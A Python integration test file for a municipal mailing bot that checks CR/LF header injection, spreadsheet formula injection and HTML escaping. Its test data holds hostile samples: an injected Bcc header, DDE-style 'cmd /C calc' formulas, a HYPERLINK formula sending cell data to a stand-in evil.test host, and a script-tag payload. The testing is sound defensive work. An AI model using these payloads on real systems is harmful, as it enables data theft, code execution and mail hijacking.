"""Issue 9, item 6: CR/LF never reaches a header, text never becomes a formula, HTML is escaped in mails."""

from __future__ import annotations

import io
import re
from email.message import EmailMessage
from email.utils import getaddresses
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from mailbot.adapters.db.models import OutboxMail
from mailbot.domain.workbook_format import METAS_LETTERS, SHEET_METAS
from mailbot.services import export
from tests.integration.test_daemon import prepared
from tests.integration.test_inbox_cycle import by_id, filled, mailing_of, poll
from tests.support.configs import SERVER_DEPENDENCIAS, example_data
from tests.support.mailservers import MailServers
from tests.support.replies import parse, reply, workbook_of
from tests.support.settle import all_delivered

pytestmark = pytest.mark.storage  # runs on SQLite and on PostgreSQL (scripts/test.sh)

PLANEACION = "planeacion@municipio.test"
OUTSIDER = "outsider@externo.test"
INJECTED = "\r\nBcc: outsider@externo.test\r\nX-Injected: yes"
#: Typed as text by a secretario; a spreadsheet would run each of them if it became a formula.
FORMULA_TEXTS = {
    "observations": '=HYPERLINK("http://evil.test/?x="&A1,"clic")',
    "activities": "+cmd|' /C calc'!A0",
    "resp_indirect": "@SUM(1+1)*cmd|' /C calc'!A0",
    "project": "-2+3+cmd|' /C calc'!A0",
}
MARKERS = ("evil.test", "calc", "SUM(1+1)")
SCRIPT = "<script>alert('x')</script>"


def as_text(workbook: bytes, values: dict[str, str], row: int = 6) -> bytes:
    """Type `values` into the Metas row as text cells (openpyxl would store a leading '=' as a formula)."""
    wb = load_workbook(io.BytesIO(workbook))
    ws = wb[SHEET_METAS]
    for key, text in values.items():
        cell = ws[f"{METAS_LETTERS[key]}{row}"]
        cell.value = text
        cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def formulas_with_markers(workbook: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(workbook))
    return [
        f"{ws.title}!{cell.coordinate}={cell.value}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" and any(m in str(cell.value) for m in MARKERS)
    ]


def texts(workbook: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(workbook))
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


def injected_config() -> dict[str, Any]:
    base = {d["code"]: d for d in example_data()["dependencias"]}
    dependencias = [{**base[code], "addresses": [address]} for code, address in SERVER_DEPENDENCIAS.items()]
    dependencias[0]["name"] = "Secretaría de Hacienda" + INJECTED
    return {
        "municipality": {"name": "Municipio de Villa Esperanza" + INJECTED},
        "smtp": {"from_name": "Planeación" + INJECTED},
        "dependencias": dependencias,
    }


def assert_clean_headers(message: EmailMessage) -> None:
    """No injected header, no line break in any value, and no address of the injected text among the addresses."""
    assert message["Bcc"] is None
    assert message["X-Injected"] is None
    head = message.as_bytes().split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
    assert not re.search(rb"(?im)^(bcc|x-injected)\s*:", head)
    for name, value in message.items():
        assert not set("\r\n") & set(str(value)), f"{name}: {value!r}"
    for name in ("To", "Cc", "Reply-To", "Sender"):
        addresses = [a for _, a in getaddresses([str(v) for v in message.get_all(name, [])])]
        assert OUTSIDER not in addresses, f"{name}: {addresses}"


def test_crlf_in_configuration_and_workbooks_never_reaches_a_header(tmp_path: Path, mail: MailServers) -> None:
    app, _ = prepared(tmp_path, mail, injected_config())
    hac = mailing_of(mail, "HAC")
    assert_clean_headers(hac)
    assert "Hacienda" in hac.get_body(("plain",)).get_content()

    plan = as_text(filled(app, workbook_of(hac), "HAC"), {"resp_name": "Ana" + INJECTED, "resp_title": INJECTED})
    # The reply's own Subject and From name carry an encoded CR/LF: an answer quotes the subject.
    message = reply(
        hac,
        sender=SERVER_DEPENDENCIAS["HAC"],
        attachments=[("Plan.xlsx", plan)],
        subject="=?utf-8?q?Plan=0D=0ABcc:_outsider@externo.test?=",
    ).replace(b"From: hacienda@", b"From: =?utf-8?q?Ana=0D=0ABcc:_outsider@externo.test?= <hacienda@", 1)
    message = message.replace(b"hacienda@municipio.test\r\nTo:", b"hacienda@municipio.test>\r\nTo:", 1)
    mail.send(message, SERVER_DEPENDENCIAS["HAC"], [PLANEACION])
    mail.wait_for(PLANEACION, count=1, timeout=30)
    outcomes = poll(app)
    assert sum(outcomes.values()) == 1, outcomes

    answer = parse(mail.wait_for(SERVER_DEPENDENCIAS["HAC"], count=2, timeout=30)[1])
    assert_clean_headers(answer)
    with app.sessions() as session:
        for row in session.scalars(select(OutboxMail)):
            assert_clean_headers(parse(row.raw))
            assert all("externo" not in r for r in row.recipients)
    all_delivered(app, mail)  # the pass returned: whatever it sent is delivered now
    with mail.mailbox(OUTSIDER) as box:
        assert list(box.uids()) == [], "an injected Bcc reached its address"


def test_formula_text_stays_text_and_html_is_escaped(tmp_path: Path, mail: MailServers) -> None:
    app, _ = prepared(tmp_path, mail)
    hac, edu = mailing_of(mail, "HAC"), mailing_of(mail, "EDU")
    good = as_text(filled(app, workbook_of(hac), "HAC"), FORMULA_TEXTS)

    def spoil(metas: list[dict[str, object]]) -> None:
        metas[0]["unit"] = SCRIPT

    bad = as_text(filled(app, workbook_of(edu), "EDU", spoil), {**FORMULA_TEXTS, "observations": SCRIPT + "=1+1"})
    for code, original, workbook in (("HAC", hac, good), ("EDU", edu, bad)):
        raw = reply(original, sender=SERVER_DEPENDENCIAS[code], attachments=[("Plan.xlsx", workbook)])
        mail.send(raw, SERVER_DEPENDENCIAS[code], [PLANEACION])
    mail.wait_for(PLANEACION, count=2, timeout=30)
    outcomes = poll(app)
    assert outcomes == {"accepted": 1, "correction_requested": 1}, by_id(app)

    correction = parse(mail.wait_for(SERVER_DEPENDENCIAS["EDU"], count=2, timeout=30)[1])
    html = correction.get_body(("html",)).get_content()
    assert "<script>" not in html
    assert "&lt;script&gt;" in html, "the value is shown to the secretario, escaped"
    annotated = next(correction.iter_attachments()).get_content()
    assert formulas_with_markers(annotated) == []
    assert set(FORMULA_TEXTS.values()) - {FORMULA_TEXTS["observations"]} <= texts(annotated)

    acceptance = parse(mail.wait_for(SERVER_DEPENDENCIAS["HAC"], count=2, timeout=30)[1])
    assert "<script>" not in acceptance.get_body(("html",)).get_content()
    out = Path(app.config.storage.archive_dir).parent / "consolidado.xlsx"
    export.export(app, 2027, out)
    consolidated = out.read_bytes()
    assert formulas_with_markers(consolidated) == []
    shown = texts(consolidated)
    for text in FORMULA_TEXTS.values():
        assert any(text in s for s in shown), f"{text!r} is not in the export as text"
